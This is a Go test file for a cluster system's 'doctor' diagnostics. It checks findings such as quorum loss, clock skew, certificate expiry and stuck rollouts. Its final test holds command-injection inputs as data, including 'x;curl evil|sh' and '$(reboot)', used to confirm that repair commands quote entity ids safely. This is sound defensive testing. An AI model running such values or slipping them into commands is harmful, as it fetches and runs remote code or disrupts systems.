package doctor

import (
	"crypto/tls"
	"crypto/x509"
	"errors"
	"go/ast"
	"go/parser"
	"go/token"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/durationpb"
	"google.golang.org/protobuf/types/known/timestamppb"

	clusterv1 "github.com/hostd/hostd/api/gen/hostd/cluster/v1"
	modulev1 "github.com/hostd/hostd/api/gen/hostd/module/v1"
)

var at = time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC)

// healthy returns the facts of three nodes with nothing wrong.
func healthy() *facts {
	f := &facts{Now: at, Cluster: &clusterv1.GetClusterResponse{Quorum: true, NodeId: "n1", ClusterVersion: 3, Policy: &clusterv1.Policy{Replication: 3}}}
	for _, id := range []string{"n1", "n2", "n3"} {
		f.Cluster.Members = append(f.Cluster.Members, &clusterv1.Member{NodeId: id, Status: "up", Reachable: true, Version: "0.2.0", MinClusterVersion: 1, MaxClusterVersion: 3})
		f.Nodes = append(f.Nodes, nodeFacts{ID: id, CertUntil: at.Add(90 * 24 * time.Hour), Ahead: time.Second, AheadError: time.Second, Metrics: parseMetrics([]byte(
			"# HELP x y\nprocess_max_fds 1.048576e+06\nprocess_open_fds 120\nprocess_resident_memory_bytes 1e+08\ngo_gc_gomemlimit_bytes 9.223372036854776e+18\nhostd_disk_read_only 0\n"))})
	}
	for shard := range uint32(4) {
		f.Shards = append(f.Shards, &clusterv1.Shard{ShardId: shard, Leader: "n1", Voters: []string{"n1", "n2", "n3"}})
	}
	f.Types = []typeFacts{{Name: "counter"}, {Name: "order", Rollout: &modulev1.Rollout{State: modulev1.Rollout_STATE_RUNNING, DueAt: timestamppb.New(at.Add(time.Minute))}}}
	return f
}

func metric(text string) samples { return parseMetrics([]byte(text)) }

// states changes healthy facts, by the finding that must result. The key has a
// suffix after a slash if one finding has several causes.
var states = map[string]func(f *facts) Severity{
	"metadata-without-quorum": func(f *facts) Severity { f.Cluster.Quorum = false; return Critical },
	"versions-mixed":          func(f *facts) Severity { f.Cluster.Members[2].Version = "0.1.9"; return Warning },
	"upgrade-not-finalized":   func(f *facts) Severity { f.Cluster.ClusterVersion = 2; return Note },
	"order-pending/drain": func(f *facts) Severity {
		f.Cluster.PendingOperations = []*clusterv1.PendingOperation{{Kind: "drain", NodeId: "n2", Remaining: 3, Reason: "no other voter"}}
		return Warning
	},
	"order-pending/replication": func(f *facts) Severity {
		f.Cluster.PendingOperations = []*clusterv1.PendingOperation{{Kind: "replication", Remaining: 3}}
		return Warning
	},
	"shard-majority-lost": func(f *facts) Severity {
		f.Shards[1].Voters, f.Shards[1].LostVoters, f.Shards[1].Leader = []string{"n1"}, []string{"n2", "n3"}, ""
		return Critical
	},
	"shard-without-majority": func(f *facts) Severity {
		for i := range 2 {
			f.Cluster.Members[i+1].Reachable, f.Nodes[i+1].Err = false, errors.New("connection refused")
		}
		return Critical
	},
	"shard-without-leader": func(f *facts) Severity { f.Shards[2].Leader = ""; return Critical },
	"replicas-missing": func(f *facts) Severity {
		f.Cluster.Members[2].Reachable, f.Nodes[2].Err = false, errors.New("connection refused")
		return Warning
	},
	"replica-stopped/damaged": func(f *facts) Severity {
		f.Shards[3].Stopped = []*clusterv1.StoppedReplica{{NodeId: "n2", Reason: "damaged"}}
		return Critical
	},
	"replica-stopped/unsupported": func(f *facts) Severity {
		f.Shards[3].Stopped = []*clusterv1.StoppedReplica{{NodeId: "n2", Reason: "unsupported"}}
		return Critical
	},
	"replica-stopped/disputed": func(f *facts) Severity {
		f.Shards[3].Stopped = []*clusterv1.StoppedReplica{{NodeId: "n2", Reason: "disputed"}}
		return Critical
	},
	"peer-unreachable":  func(f *facts) Severity { f.Cluster.Members[1].Reachable = false; return Critical },
	"node-not-admitted": func(f *facts) Severity { f.Cluster.Members[1].Status = "weakly_up"; return Warning },
	"node-down":         func(f *facts) Severity { f.Cluster.Members[1].Status = "down"; return Warning },
	"node-drained":      func(f *facts) Severity { f.Cluster.Members[1].Draining = true; return Note },
	"clock-skew/off": func(f *facts) Severity {
		f.Cluster.Members[1].ClockSkew = durationpb.New(-700 * time.Millisecond)
		return Critical
	},
	"clock-skew/near": func(f *facts) Severity {
		f.Cluster.Members[1].ClockSkew = durationpb.New(300 * time.Millisecond)
		return Warning
	},
	"disk-full/member": func(f *facts) Severity {
		f.Cluster.Members[1].Impairment = &clusterv1.Impairment{DiskFull: true}
		f.Nodes[1].Metrics = metric("hostd_disk_read_only 1\n") // one finding, not two
		return Critical
	},
	"disk-full/metrics": func(f *facts) Severity { f.Nodes[1].Metrics = metric("hostd_disk_read_only 1\n"); return Critical },
	"replicas-damaged": func(f *facts) Severity {
		f.Cluster.Members[1].Impairment = &clusterv1.Impairment{DamageCount: 3}
		return Critical
	},
	"node-slow": func(f *facts) Severity {
		f.Cluster.Members[1].Impairment = &clusterv1.Impairment{Slow: true}
		return Warning
	},
	"node-not-ready": func(f *facts) Severity { f.Nodes[0].NotReady = "the node is leaving its cluster"; return Critical },
	"local-clock-differs": func(f *facts) Severity {
		for i := range f.Nodes {
			f.Nodes[i].Ahead = -time.Hour
		}
		return Warning
	},
	"tls-handshake-failed": func(f *facts) Severity {
		f.Nodes[1].Err = &tls.CertificateVerificationError{Err: x509.UnknownAuthorityError{}}
		return Critical
	},
	"node-unreachable": func(f *facts) Severity { f.Nodes[1].Err = errors.New("connection refused"); return Critical },
	"certificate-expires/soon": func(f *facts) Severity {
		f.Nodes[1].CertUntil = at.Add(24 * time.Hour)
		return Warning
	},
	"certificate-expires/over": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric(`hostd_tls_cert_not_after_seconds{use="peer"} 1.7e+09` + "\n")
		return Critical
	},
	"certificate-expires/authority": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric(`hostd_tls_cert_not_after_seconds{use="client-ca"} ` + strconv.FormatInt(at.Add(time.Hour).Unix(), 10) + "\n")
		return Warning
	},
	"disk-stalled": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric("hostd_disk_stalled_seconds 2.5\n")
		return Critical
	},
	"descriptors-exhausted": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric("process_open_fds 950\nprocess_max_fds 1000\n")
		return Critical
	},
	"descriptors-few": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric("process_open_fds 50\nprocess_max_fds 1024\n")
		return Warning
	},
	"memory-near-limit": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric("process_resident_memory_bytes 9.9e+08\ngo_gc_gomemlimit_bytes 1e+09\n")
		return Warning
	},
	"dead-letters": func(f *facts) Severity { f.Nodes[1].Metrics = metric("hostd_dead_letters 4\n"); return Warning },
	"audit-lines-lost": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric("hostd_audit_log_lost_lines_total 4\n")
		return Critical
	},
	"reload-failed/tls": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric(`hostd_tls_reload_failures_total{use="peer"} 1` + "\n" + `hostd_tls_reload_failures_total{use="server"} 0` + "\n")
		return Warning
	},
	"reload-failed/trust": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric("hostd_module_trust_reload_failures_total 1\n")
		return Warning
	},
	"reload-failed/auth": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric(`hostd_auth_reload_failures_total{source="tokens"} 1` + "\n")
		return Warning
	},
	"signature-not-trusted": func(f *facts) Severity {
		f.Nodes[1].Metrics = metric(`hostd_type_signature_faults{entity_type="counter",reason="SIGNATURE_MISSING"} 1` + "\n")
		return Warning
	},
	"entities-quarantined": func(f *facts) Severity { f.Types[0].Quarantined = []string{"a", "b\x1b"}; return Warning },
	"rollout-stuck/paused": func(f *facts) Severity { f.Types[1].Rollout.State = modulev1.Rollout_STATE_PAUSED; return Warning },
	"rollout-stuck/refused": func(f *facts) Severity {
		f.Types[1].Rollout.State = modulev1.Rollout_STATE_REJECTED
		return Warning
	},
	"rollout-stuck/aborted": func(f *facts) Severity {
		f.Types[1].Rollout.State = modulev1.Rollout_STATE_ABORTED
		return Warning
	},
	"rollout-stuck/held": func(f *facts) Severity {
		f.Types[1].Rollout.State = modulev1.Rollout_STATE_WRITE_PAUSED
		return Warning
	},
	"rollout-stuck/overdue": func(f *facts) Severity {
		f.Types[1].Rollout.DueAt = timestamppb.New(at.Add(-time.Hour))
		return Warning
	},
	"rollout-aborted": func(f *facts) Severity { f.Types[0].Aborted = "faults>0"; return Note },
}

// alsoFound lists the findings that come together with another finding.
var alsoFound = map[string][]string{
	"shard-without-majority": {"node-unreachable"},
	"replicas-missing":       {"node-unreachable"},
	"peer-unreachable":       {"replicas-missing"},
	"node-down":              {"replicas-missing"},
	"replica-stopped":        {"replicas-missing"},
}

func TestHealthyClusterHasNoFindings(t *testing.T) {
	if found := diagnose(healthy()); len(found) != 0 {
		t.Errorf("%+v", found)
	}
}

func TestEachStateIsFound(t *testing.T) {
	for key, change := range states {
		t.Run(key, func(t *testing.T) {
			want, _, _ := strings.Cut(key, "/")
			f := healthy()
			severity := change(f)
			found := diagnose(f)
			if !slices.ContainsFunc(found, func(f Finding) bool { return f.ID == want && f.Severity == severity }) {
				t.Errorf("no %s %s in %+v", severity, want, found)
			}
			same := 0
			for _, f := range found {
				if f.ID == want {
					same++
				} else if !slices.Contains(alsoFound[want], f.ID) {
					t.Errorf("unexpected: %+v", f)
				}
				if len(f.Mend) == 0 || f.Problem == "" || f.Subject == "" || strings.ContainsAny(f.Problem+strings.Join(f.Mend, ""), "\x1b\n") {
					t.Errorf("%+v", f)
				}
			}
			if most := map[bool]int{true: 3, false: 1}[want == "local-clock-differs"]; same > most {
				t.Errorf("%d findings for one problem: %+v", same, found)
			}
			if !slices.IsSortedFunc(found, func(a, b Finding) int { return rank[a.Severity] - rank[b.Severity] }) {
				t.Errorf("not the worst first: %+v", found)
			}
		})
	}
}

// TestEveryFindingIsTestedAndDocumented compares the ids in the sources with the
// table above and with the page.
func TestEveryFindingIsTestedAndDocumented(t *testing.T) {
	page, err := os.ReadFile("../../../../docs/operating/doctor.md")
	if err != nil {
		t.Fatal(err)
	}
	tested := map[string]bool{}
	for key := range states {
		id, _, _ := strings.Cut(key, "/")
		tested[id] = true
	}
	ids := findingIDs(t, "diagnose.go", "command.go", "../../doctor.go")
	if len(ids) < 34 {
		t.Errorf("only %d ids are in the sources: %v", len(ids), slices.Sorted(maps.Keys(ids)))
	}
	for id, file := range ids {
		if !strings.Contains(string(page), "| `"+id+"` |") {
			t.Errorf("docs/operating/doctor.md does not list %s", id)
		}
		if file == "diagnose.go" && !tested[id] {
			t.Errorf("no state of the table results in %s", id)
		}
	}
	for line := range strings.Lines(string(page)) {
		if id, _, ok := strings.Cut(strings.TrimPrefix(line, "| `"), "` |"); ok && strings.HasPrefix(line, "| `") && ids[id] == "" {
			t.Errorf("docs/operating/doctor.md lists %s, which is never found", id)
		}
	}
}

// findingIDs returns the ids of findings in files: the first argument of add,
// and the member ID of a literal.
func findingIDs(t *testing.T, files ...string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, file := range files {
		f, err := parser.ParseFile(token.NewFileSet(), file, nil, parser.SkipObjectResolution)
		if err != nil {
			t.Fatal(err)
		}
		note := func(e ast.Expr) {
			if lit, ok := e.(*ast.BasicLit); ok && lit.Kind == token.STRING {
				id, err := strconv.Unquote(lit.Value)
				if err == nil {
					out[id] = filepath.Base(file)
				}
			}
		}
		ast.Inspect(f, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.CallExpr:
				if s, ok := n.Fun.(*ast.SelectorExpr); ok && s.Sel.Name == "add" {
					note(n.Args[0])
				}
			case *ast.KeyValueExpr:
				if key, ok := n.Key.(*ast.Ident); ok && key.Name == "ID" {
					note(n.Value)
				}
			}
			return true
		})
	}
	return out
}

// TestIdsAreOneArgument: an entity id is one argument of a command that
// fixes a finding, whatever id a client has chosen, because an operator may
// copy the command into a shell.
func TestIdsAreOneArgument(t *testing.T) {
	for id, want := range map[string]string{
		"visits":          "visits",
		"a/b.c:d@e":       "a/b.c:d@e",
		"x;curl evil|sh":  "'x;curl evil|sh'",
		"$(reboot)":       "'$(reboot)'",
		"it's":            `'it'\''s'`,
		"two words":       "'two words'",
		"--all":           "-- --all",
		"-x y":            "-- '-x y'",
		"":                "''",
		"line\u2028break": `'"line\u2028break"'`,
	} {
		if got := argument(id); got != want {
			t.Errorf("%q: %s, want %s", id, got, want)
		}
	}
}
